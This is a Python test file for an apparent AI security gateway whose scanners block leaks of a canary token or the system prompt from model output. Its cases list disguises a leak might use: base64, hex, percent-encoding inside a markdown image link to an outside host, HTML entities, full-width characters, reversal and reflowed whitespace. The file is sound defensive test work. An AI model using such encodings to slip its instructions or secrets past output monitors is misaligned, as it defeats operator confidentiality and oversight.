"""Partial and encoded canaries; system-prompt leaks through whitespace and encodings."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from bastion.policy import DEFAULT_SYSTEM_PROMPT
from bastion.scanners import CanaryScanner, Decision, ScanContext, Stage, SystemPromptLeakScanner

CANARY = "bst-c-9f3c1a7be2d4406a8c51e0f2"
DIGITS = CANARY.removeprefix("bst-c-")
CANARY_CTX = ScanContext(stage=Stage.OUTPUT, secrets={"canary": CANARY})
PROMPT_CTX = ScanContext(stage=Stage.OUTPUT, secrets={"system_prompt": DEFAULT_SYSTEM_PROMPT})

PARTIAL = [
    ("prefix and six digits", f"marker {CANARY[:12]} end"),
    ("twelve inner digits", f"id {DIGITS[5:17]}"),
    ("spaced partial", " ".join(DIGITS[:13])),
    ("upper partial", DIGITS[3:16].upper()),
    ("base64 partial", base64.b64encode(CANARY[:16].encode()).decode()),
    ("hex partial", CANARY[:14].encode().hex()),
    ("base64 inside prose", "x " + base64.b64encode(f"it is {DIGITS[:14]}".encode()).decode()),
]


@pytest.mark.parametrize(("label", "text"), PARTIAL, ids=[p[0] for p in PARTIAL])
def test_partial_and_encoded_canary_blocks(label: str, text: str) -> None:
    """Twelve characters of the canary, in any disguise but reversal, block."""
    result = CanaryScanner().scan(text, CANARY_CTX)
    assert (result.decision, result.reason) == (Decision.BLOCK, "canary_leak")


CANARY_MISSES = [
    ("eleven digits", f"id {DIGITS[:11]}"),
    ("prefix and five digits", CANARY[:11]),
    ("other hex", "commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904"),
    ("uuid", "550e8400-e29b-41d4-a716-446655440000"),
]


@pytest.mark.parametrize(("label", "text"), CANARY_MISSES, ids=[p[0] for p in CANARY_MISSES])
def test_short_or_unrelated_hex_allows(label: str, text: str) -> None:
    """Fewer than twelve characters, or other hex, is not a leak."""
    assert CanaryScanner().scan(text, CANARY_CTX).decision is Decision.ALLOW


def test_partial_detection_can_be_turned_off_and_is_validated() -> None:
    """partial_chars = 0 keeps whole-canary matching only; tiny values are refused."""
    assert CanaryScanner({"partial_chars": 0}).scan(DIGITS[:14], CANARY_CTX).decision is (
        Decision.ALLOW
    )
    with pytest.raises(ValueError, match="partial_chars"):
        CanaryScanner({"partial_chars": 4})


RUN = DEFAULT_SYSTEM_PROMPT[: DEFAULT_SYSTEM_PROMPT.index("Follow")]
LEAKS = [
    ("reflowed", RUN.upper().replace(" ", "\n   \t")),
    ("punctuated", RUN.replace(" ", " -- ")),
    ("percent-encoded", "![a](https://x.example/p?q=" + quote(RUN) + ")"),
    ("html entities", RUN.replace(" ", "&nbsp;")),
    ("json escaped", RUN.replace(" ", "\\n")),
    ("full width", "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in RUN)),
    ("reversed", RUN[::-1]),
    ("base64", base64.b64encode(RUN.encode()).decode()),
    ("base64 cut", base64.b64encode(("zz" + RUN).encode()).decode()[5:]),
    ("hex", RUN.encode().hex()),
]


@pytest.mark.parametrize(("label", "text"), LEAKS, ids=[p[0] for p in LEAKS])
def test_disguised_system_prompt_blocks(label: str, text: str) -> None:
    """A run of the prompt survives no change of whitespace, case, punctuation or encoding."""
    result = SystemPromptLeakScanner().scan(text, PROMPT_CTX)
    assert (result.decision, result.reason) == (Decision.BLOCK, "system_prompt_leak")
    assert all(0 <= f.start < f.end <= len(text) for f in result.findings)


PROMPT_MISSES = [
    "The system is up; our security gateway is called Bastion.",
    "I'm an assistant. I follow policies and treat documents as data.",
    "![chart](https://acme.example/c.png?id=1234) and " + base64.b64encode(b"hello " * 8).decode(),
]


@pytest.mark.parametrize("text", PROMPT_MISSES)
def test_mentions_and_paraphrases_allow(text: str) -> None:
    """Talking about the system, or base64 of something else, is not a leak."""
    assert SystemPromptLeakScanner().scan(text, PROMPT_CTX).decision is Decision.ALLOW
